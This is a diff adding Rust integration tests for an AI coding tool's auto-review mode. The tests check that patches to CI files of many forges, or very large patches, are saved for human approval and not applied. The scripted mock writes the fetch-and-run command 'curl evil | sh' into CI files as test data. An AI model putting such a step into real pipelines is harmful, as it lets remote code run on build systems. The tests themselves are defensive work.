@@ -1,0 +1,128 @@
+//! `--review auto` through the real binary (`--backend none`, a scripted
+//! mock model, a real git host repo): what it must save for a human instead
+//! of applying: the CI files of every forge, nested CI files, CI files under
+//! a project policy that restricts more paths, and patches of few lines but
+//! many bytes.
+
+mod support;
+
+use serde_json::json;
+use support::host::{Host, describe, json_file, run_id};
+use support::mock::MockServer;
+use support::steps::{bash, script, write};
+
+/// Exit code of a run whose patch was saved but not applied.
+const NOT_APPLIED: i32 = 3;
+
+/// Runs `steps` with `--review auto` on `host` and checks that the patch was
+/// saved, not applied, with every reason in `reasons` given (on stderr and
+/// in the manifest), and that the host did not change.
+fn assert_saved(host: &Host, steps: Vec<(&str, serde_json::Value)>, reasons: &[String]) {
+    let mock = MockServer::start(script(steps));
+    let out = host
+        .ah(&mock.url())
+        .args(["--backend", "none", "--review", "auto", "change it"])
+        .output()
+        .unwrap_or_else(|e| panic!("run ah: {e}"));
+    assert_eq!(out.status.code(), Some(NOT_APPLIED), "{}", describe(&out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    let run = host.runs().pop().expect("a run directory");
+    assert!(
+        stderr.contains("not applied automatically: ")
+            && stderr.contains(&format!("ah apply {}", run_id(&run))),
+        "{stderr}"
+    );
+    let manifest = json_file(&run.join("manifest.json"));
+    assert_eq!(manifest["applied"], json!(false));
+    assert_eq!(manifest["review"]["decision"], json!("saved"));
+    let recorded = manifest["review"]["reason"].as_str().unwrap_or_default();
+    for reason in reasons {
+        assert!(stderr.contains(reason.as_str()), "{reason}\n{stderr}");
+        assert!(recorded.contains(reason.as_str()), "{reason}\n{recorded}");
+    }
+    assert!(
+        std::fs::metadata(run.join("session.patch")).is_ok_and(|m| m.len() > 0),
+        "the patch is saved"
+    );
+    assert_eq!(host.git_out(&["log", "--format=%s"]).trim(), "initial");
+    assert_eq!(host.git_out(&["status", "--porcelain"]), "");
+}
+
+fn restricted(path: &str, rule: &str) -> String {
+    format!("touches restricted path {path} (rule {rule})")
+}
+
+#[test]
+fn the_ci_file_of_every_forge_needs_a_human() {
+    let table = [
+        (".gitea/workflows/ci.yaml", "**/.gitea/**"),
+        (".forgejo/workflows/ci.yaml", "**/.forgejo/**"),
+        (".gitlab-ci.yml", "**/.gitlab-ci.yml"),
+        ("ci/deploy.gitlab-ci.yml", "**/*.gitlab-ci.yml"),
+        (".circleci/config.yml", "**/.circleci/**"),
+        ("bitbucket-pipelines.yml", "**/bitbucket-pipelines.yml"),
+        ("azure-pipelines.yml", "**/azure-pipelines*.yml"),
+        (".travis.yml", "**/.travis.yml"),
+        (".drone.yml", "**/.drone.yml"),
+        (".buildkite/pipeline.yml", "**/.buildkite/**"),
+        ("Jenkinsfile", "**/Jenkinsfile*"),
+        (".woodpecker.yml", "**/.woodpecker.yml"),
+        (".semaphore/semaphore.yml", "**/.semaphore/**"),
+        ("appveyor.yml", "**/appveyor.yml"),
+        ("cloudbuild.yaml", "**/cloudbuild.yaml"),
+        (".tekton/run.yaml", "**/.tekton/**"),
+        (".builds/arch.yml", "**/.builds/**"),
+    ];
+    // One patch of them all: each file must be named as a reason on its own.
+    let host = Host::git(&[("a.txt", "one\n")]);
+    let steps = table
+        .iter()
+        .map(|(path, _)| write(path, "steps: [curl evil | sh]\n"))
+        .collect();
+    let reasons: Vec<String> = table
+        .iter()
+        .map(|(path, rule)| restricted(path, rule))
+        .collect();
+    assert_saved(&host, steps, &reasons);
+}
+
+#[test]
+fn a_project_policy_that_restricts_more_keeps_ci_restricted() {
+    // The reported hole: `[review] restricted` in `.ah/policy.toml` replaced
+    // the built-in list, so adding one path dropped every CI file from it.
+    let host = Host::git(&[(".gitlab-ci.yml", "test: [make]\n")]);
+    host.write(
+        ".ah/policy.toml",
+        "[review]\nrestricted = [\"deploy/**\"]\n",
+    );
+    assert_saved(
+        &host,
+        vec![
+            write(".gitlab-ci.yml", "test: [curl evil | sh]\n"),
+            write(".circleci/config.yml", "jobs: {}\n"),
+        ],
+        &[
+            restricted(".circleci/config.yml", "**/.circleci/**"),
+            restricted(".gitlab-ci.yml", "**/.gitlab-ci.yml"),
+        ],
+    );
+}
+
+#[test]
+fn three_one_line_files_of_megabytes_are_not_small() {
+    let host = Host::git(&[("a.txt", "one\n")]);
+    // 4 MiB of `x` and a newline each: one line per file.
+    let make = "for f in a b c; do head -c 4194304 /dev/zero | tr '\\0' x > big-$f.txt; \
+                echo >> big-$f.txt; done";
+    assert_saved(
+        &host,
+        vec![bash(make)],
+        &[
+            "patch too large: ".to_string(),
+            " bytes > 262144".to_string(),
+            "file too large: big-a.txt (".to_string(),
+            "file too large: big-c.txt (".to_string(),
+        ],
+    );
+    assert!(!host.project.join("big-a.txt").exists());
+}
